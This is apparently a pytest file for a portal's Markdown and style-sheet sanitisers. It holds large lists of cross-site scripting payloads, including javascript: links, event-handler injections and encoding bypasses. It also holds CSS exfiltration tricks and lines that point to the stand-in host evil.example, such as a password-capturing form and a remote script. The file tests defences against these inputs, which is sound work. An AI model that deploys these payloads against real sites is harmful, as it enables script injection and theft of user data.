"""What people write on a page can be read and nothing else: hostile Markdown and hostile style sheets, and what harmless ones keep."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from portal.markup import markdown
from portal.stylesheet import BYTES, css

pytestmark = pytest.mark.once

ALLOWED = {
    "p", "br", "strong", "em", "code", "pre", "ul", "ol", "li", "a", "blockquote", "h3", "h4", "h5", "hr", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class Reader(HTMLParser):
    """What a browser would make of it: tags, attributes, addresses."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.addresses: list[str] = []
        self.others = 0
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        for name, value in attrs:
            self.attributes.add((tag, name))
            if name == "href":
                self.addresses.append(value or "")

    def handle_comment(self, data):
        self.others += 1

    def handle_decl(self, decl):
        self.others += 1

    def handle_pi(self, data):
        self.others += 1


HOSTILE = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example></script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<math><mi//xlink:href='javascript:alert(1)'>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html,x>", "<embed src=javascript:alert(1)>", "<form action=//evil.example><input name=password>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>", "<style>*{color:red}</style>", "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<!DOCTYPE html><script>alert(1)</script>",
    "<textarea><script>alert(1)</script>", "<title><img src=x onerror=alert(1)></title>", "<xmp><script>alert(1)</script></xmp>", "<plaintext>", "<button formaction=javascript:alert(1)>x",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&#58;alert(1))", "[x](&#106;avascript:alert(1))", "[x](java\tscript:alert(1))", "[x](java&#10;script:alert(1))",
    "[x](\x01javascript:alert(1))", "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)", "[x](file:///etc/passwd)", "[x](blob:https://evil.example/1)", "[x](//evil.example)", "[x](/relative)", "[x](\\\\evil.example)",
    "[x](https:evil.example)", "[x](https://user:pass@evil.example)", "[x](https://acme.example@evil.example/)", "[x](ftp://evil.example)", "[x](tel:+1)", "[x](ws://evil.example)",
    "[x](mailto:a@b.example%0d%0abcc:c@d.example)", "[x](https://e.example \"onmouseover='alert(1)'\")", "[x](https://e.example\" onclick=alert(1) x=\")", "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)", "![\"onerror=alert(1) x=\"](https://evil.example/p.png)", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "<javascript:alert(1)>", "<data:text/html,x>",
    "[a]: javascript:alert(1)\n\n[a]", "[![x](https://evil.example/p.png)](javascript:alert(1))", "`<script>alert(1)</script>`", "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```", "    <script>alert(1)</script>", "# <img src=x onerror=alert(1)>", "| <img src=x onerror=alert(1)> |\n|---|\n| <script>1</script> |",
    "> <script>alert(1)</script>", "- <script>alert(1)</script>", "**<script>alert(1)</script>**", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "\u202e<script>alert(1)</script>", "<script\u2028>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    "<<script>alert(1)//<</script>", "<a\nhref\n=\njavascript:alert(1)>x", "<p style='position:fixed'>x", "<div id=x class=y>x</div>", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//<svg/oNloAd=alert()//>",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_text(text):
    seen = Reader(markdown(text))
    assert seen.tags <= ALLOWED
    assert seen.attributes <= {("a", "href"), ("a", "rel")}
    assert not seen.others
    for address in seen.addresses:
        assert address.startswith(("https://", "http://", "mailto:")) and "@evil" not in address and "%0" not in address


def test_the_corpora_are_large_enough():
    assert len(HOSTILE) >= 60 and len(HOSTILE_CSS) >= 60


def test_plain_markdown_is_kept_with_headings_below_those_of_the_page():
    html = markdown(
        "# Now\n\nWe **look** at `it`.\n\n- one\n- two\n\n[help](https://acme.example/help?a=1&b=2)\n\n| a |\n|---|\n| 1 |"
    )
    assert (
        "<h3>Now</h3>" in html and "<strong>look</strong>" in html and "<li>two</li>" in html and "<td>1</td>" in html
    )
    assert '<a href="https://acme.example/help?a=1&amp;b=2" rel="nofollow noopener noreferrer">help</a>' in html


def test_a_picture_leaves_its_words():
    assert markdown("see ![the graph](https://acme.example/g.png) here") == "<p>see the graph here</p>\n"


@pytest.mark.parametrize(
    "text", ["[" * 20_000, "> " * 10_000, "*a" * 10_000, "`" * 20_000, "![[" * 6_000, "<" * 20_000, "[a](<" * 4_000, "|a|\n|-|\n" + "|\n" * 9_000, "x" * 900_000],
)  # fmt: skip
def test_the_output_grows_no_more_than_a_known_share(text):
    assert len(markdown(text)) < 13 * min(len(text), 20_000) + 2_000


def test_what_is_too_long_is_cut_with_a_word_about_it():
    assert "too long" in markdown("word " * 10, limit=20) and "too long" not in markdown("word")


# --- Style sheets ---------------------------------------------------------------------------------------------------------
HOSTILE_CSS = [
    "@import 'https://evil.example/a.css';", "@import url(//evil.example);", "@font-face { font-family: x; src: url(//evil.example) }", "@charset 'utf-7';", "@namespace url(x);",
    "@keyframes x { from { color: red } }", "@supports (color: red) { p { color: red } }", "@layer x { p { color: red } }", "@page { margin: 0 }", "@property --x { syntax: '*' }",
    "@container (min-width: 1px) { p { color: red } }", "@-moz-document url-prefix() { p { color: red } }", "@document url(x) { p { color: red } }", "@media screen { @import 'x'; }",
    "@media screen { @media print { p { color: red } } }", "@media (script: url(x)) { p { color: red } }", "p { background: url(https://evil.example/p.png) }",
    "p { background: URL('//evil.example') }", "p { background: u\\72l(//evil.example) }", "p { background-image: image-set('//evil.example/a.png' 1x) }", "p { background: -webkit-image-set(url(x) 1x) }",
    "p { list-style-image: url(x) }", "p { list-style: url(x) }", "p { cursor: url(x), auto }", "p { content: url(x) }", "p::before { content: attr(title) }", "p { color: attr(data-x) }",
    "p { border-image: url(x) }", "p { mask: url(x) }", "p { filter: url(x#y) }", "p { clip-path: url(x) }", "p { --x: url(//evil.example); background: var(--x) }",
    "p { background: src(var(--x)) }", "p { background: image(//evil.example) }", "p { background: cross-fade(url(x), url(y)) }", "p { background: element(#x) }", "p { background: paint(x) }",
    "p { width: expression(alert(1)) }", "p { width: e\\78pression(alert(1)) }", "p { behavior: url(x.htc) }", "p { -moz-binding: url(x.xml#y) }", "p { position: fixed }", "p { position: sticky }",
    "p { position: absolute }", "p { position: var(--x) }", "p { --x: fixed; position: var(--x) }", "p { POSITION: FIXED }", "p { posit\\69on: fixed }", "p { z-index: 99999 }", "p { inset: 0 }",
    "p { top: 0 }", "p { transform: scale(9) }", "p { animation: x 1s }", "p { pointer-events: none }", "p { all: unset }", "p { unknown: red }", "a[href^='https://acme'] { color: red }",
    "input[value$='a'] { color: red }", "p:not(.x) { color: red }", "p:has(.x) { color: red }", "p:is(a, b) { color: red }", ":host { color: red }", "p ~ a { color: red }", "p + a { color: red }",
    "p || a { color: red }", "svg|a { color: red }", "p:nth-child(2) { color: red }", "p::part(x) { color: red }", "</style><script>alert(1)</script>", "p { content: '</style><script>alert(1)</script>' }",
    "p { color: red; } </style> <img src=x onerror=alert(1)>", "<!-- @import url(x); -->", "p { font-family: '</style>' }", "p { --x: </style> }", "p { color: re\\d }", "p\\{ { color: red }", "p { content: '\\3c/style>' }",
    "p { background: '\\\n<' }", "p { color: red\x00 }", "p { color: javascript:alert(1) }", "p { a { color: red } }", "p { @media print { color: red } }", "p { & a { color: red } }", "p { color: rgb(1;2) }",
    "p { width: calc(calc(calc(calc(calc(calc(1px)))))) }", "{ color: red }", "p { color }", "} p { color: red", "p { content: \"a\" \"<b>\" }", "a" * 30_000,
]  # fmt: skip
FORBIDDEN = ("url", "import", "expression", "fixed", "sticky", "absolute", "attr(", "<", "\\", "@font", "@key", "javascript", "image-set", "[", "~", "evil")  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE_CSS)
def test_hostile_style_is_dropped_and_said(text):
    clean, complaints = css(text)
    assert not [word for word in FORBIDDEN if word in clean.lower().replace("--x: fixed", "")], clean
    assert complaints and all(len(c) < 300 for c in complaints)
    for line in clean.splitlines():
        assert line.startswith((".status-page", "@media", "}")), line


def test_every_selector_stays_below_the_page():
    clean, complaints = css("body, .x > a:hover, :root, .status-page .y, #z b::before { color: red }")
    assert not complaints
    assert (
        clean
        == ".status-page, .status-page .x > a:hover, .status-page, .status-page .y, .status-page #z b::before { color: red }"
    )


def test_a_complaint_names_its_line_and_the_cure():
    _, complaints = css("p { color: red }\n\np {\n  position: fixed;\n}")
    assert complaints == ["Line 4: position: it is only ever relative or static here."]


def test_one_bad_line_takes_nothing_with_it():
    clean, complaints = css(
        ":root { --accent: #0a7; }\nh1 { position: fixed; font: 700 1.5rem/1.2 Georgia, serif !important; margin: -4px calc(1em + 2px) }"
    )
    assert (
        clean
        == ".status-page { --accent: #0a7 }\n.status-page h1 { font: 700 1.5rem/1.2 Georgia, serif !important; margin: -4px calc(1em + 2px) }"
    )
    assert len(complaints) == 1


def test_media_for_width_and_scheme_stay():
    clean, complaints = css("@media (max-width: 600px) and (prefers-color-scheme: dark) { h1 { color: #fff } }")
    assert (
        not complaints
        and clean == "@media (max-width: 600px) and (prefers-color-scheme: dark) {\n.status-page h1 { color: #fff }\n}"
    )


def test_what_is_cleaned_once_is_clean():
    clean, _ = css("body { color: red }\n.a > b { margin: 0 auto }\n@media print { p { color: #000 } }")
    assert css(clean) == (clean, [])


def test_a_sheet_that_is_too_long_is_refused_whole():
    clean, complaints = css("p{color:red}" * BYTES)
    assert not clean and "Shorten" in complaints[0]
